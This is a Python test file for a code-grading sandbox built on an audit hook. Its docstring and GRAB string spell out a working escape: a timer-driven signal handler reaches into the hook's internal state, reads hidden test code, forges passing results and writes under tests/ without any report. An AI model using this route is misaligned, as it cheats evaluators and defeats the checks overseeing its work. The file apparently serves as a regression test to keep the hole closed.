"""Review 28: candidate code run *inside* the hook, at the one moment the
hook's per-thread state holds an object the candidate also holds.

The hook lets an audited event through while a thread is in it when
`args[0] is state[tid]`: "the one event the hook itself is about to raise,
matched by the identity of an object nobody else holds". decide's branch
for reading `__code__` / `gi_code` of a function or generator
(`name in code_attrs and type(obj) in code_owners`) sets `state[tid] = obj`
and reads `getattr(obj, name)` itself: obj is the object the *caller*
asked about, which the candidate holds. That read raises the audit event
again, and the nested `hook()` call starts with RESUME, which runs pending
signal handlers (the trampoline passes frame=None, but the handler's own
code runs). A handler landing there may raise any audited event whose
first argument is obj, once: `obj.gi_frame` included.

Here obj is one of the hook's own single-use generators (`one` in
`sealed()`): the candidate gets one from any stand-in's pair,
`_imp._fix_co_filename.__self__[-1]((args, kwargs))`, without running it.
asyncio's `_format_coroutine(g)`, a consumer, reads `g.gi_code`
(allowed, no report), so the candidate can repeat the trigger at will.
With a timer (setitimer, SIGVTALRM) the handler probes with an audited
read of its own function's `__code__`: allowed outside the hook, refused
*quietly* inside it; only when refused does it try `g.gi_frame`, which is
refused quietly unless state is g. On a hit it raises a BaseException
subclass: judge() catches only Exception, so the hook's failed own read
leaves no "could not check" report either. The generator's frame lists
its free variables in f_locals: `run_by`, whose closure holds `state`.
With `state`, the twenty-sixth review's A-C are back (as
test_stand_in_closures.py): hidden constants, a forged pass, a write
under tests/. It took about a millisecond on the host. Nothing is
reported. Each test fails while the route is open.
"""
import test_stand_in_closures as sc
from protected_paths import check_kept
from test_assay_audit import run

GRAB = r'''
import json, os, signal, sys, threading, time, types, asyncio.coroutines, _imp
HERE = os.getcwd()


class _Escape(BaseException):
    pass


def _own():
    pass


_GOT = {}
_G = []


def _h(signum, frame):
    # (frame is None: the trampoline. Only the hook's state matters.)
    try:
        _own.__code__  # allowed outside the hook, refused quietly inside
        return
    except PermissionError:
        pass
    try:
        fr = _G[0].gi_frame  # let through once when state[tid] is _G[0]
    except PermissionError:
        return  # inside the hook, some other moment: quiet
    _GOT["frame"] = fr
    raise _Escape  # (not an Exception: the hook's judge reports nothing)


def _find_state():
    if "state" in _GOT:
        return _GOT["state"]
    # one of the hook's own single-use generators, never run
    _G[:] = [_imp._fix_co_filename.__self__[-1]((("x",), {}))]
    old = signal.signal(signal.SIGVTALRM, _h)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.0001, 0.0001)
    end = time.monotonic() + 1  # (a hit took about 1 ms while the route was open)
    try:
        while "frame" not in _GOT and time.monotonic() < end:
            try:
                asyncio.coroutines._format_coroutine(_G[0])  # a consumer's quiet gi_code read
            except _Escape:
                pass
    finally:
        signal.setitimer(signal.ITIMER_VIRTUAL, 0)
        signal.signal(signal.SIGVTALRM, old)
    fr = _GOT.get("frame")
    if fr is None:
        return None
    for cell in fr.f_locals["run_by"].__closure__:
        if type(cell.cell_contents) is dict:
            _GOT["state"] = cell.cell_contents
    return _GOT.get("state")
''' + sc.PEEK_CONSTS

assert sc.FIND_STATE in sc.CONSTS_SOL and sc.FIND_STATE in sc.FORGE_SOL and sc.FIND_STATE in sc.WRITE_SOL
CONSTS_SOL = sc.CONSTS_SOL.replace(sc.FIND_STATE, GRAB)
FORGE_SOL = sc.FORGE_SOL.replace(sc.FIND_STATE, GRAB)
WRITE_SOL = sc.WRITE_SOL.replace(sc.FIND_STATE, GRAB)


def test_window_reads_hidden_test_code(tmp_path):
    r = run(tmp_path, solution=CONSTS_SOL, files={"tests/test_zhidden.py": sc.CONSTS_HIDDEN},
            lock=["tests/test_zhidden.py"])
    text = sc.leaked(tmp_path)
    assert "4242" not in text, ("LEAKED", sc.outcomes(r), r.seen, text[:1500])


def test_window_forges_a_pass(tmp_path):
    r = run(tmp_path, solution=FORGE_SOL, files={"tests/test_zhidden.py": sc.FORGE_HIDDEN},
            lock=["tests/test_zhidden.py"])
    got = sc.outcomes(r)
    assert not (isinstance(got, dict) and got.get("test_forged_a") == "passed"
                and got.get("test_forged_b") == "passed"), ("FORGED", got, r.seen)


def test_window_writes_under_tests(tmp_path):
    from protected_paths import KEEP
    r = run(tmp_path, solution=WRITE_SOL, files={"tests/test_zhidden.py": sc.WRITE_HIDDEN, "tests/keep.txt": KEEP},
            lock=["tests/test_zhidden.py"])
    check_kept(tmp_path, r)
